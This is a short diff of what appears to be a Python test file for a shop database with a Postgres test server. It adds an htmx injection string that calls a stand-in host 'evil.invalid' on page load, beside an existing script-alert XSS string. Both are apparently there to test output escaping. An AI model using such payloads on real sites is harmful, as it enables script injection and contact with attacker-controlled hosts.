@@ -10,6 +10,7 @@ from tests.support.postgres_server import PostgresServer
 
 ROWS = {"customers": 300, "orders": 1200}
 LONG_NAME = "an_archive_of_everything_that_was_ever_ordered_in_the_old_shop"
+POLLING_NAME = '<p hx-get="//evil.invalid/" hx-trigger="load">'
 HOSTILE_NAME = '<script>alert("shop")</script>'
 
 _TABLES = (
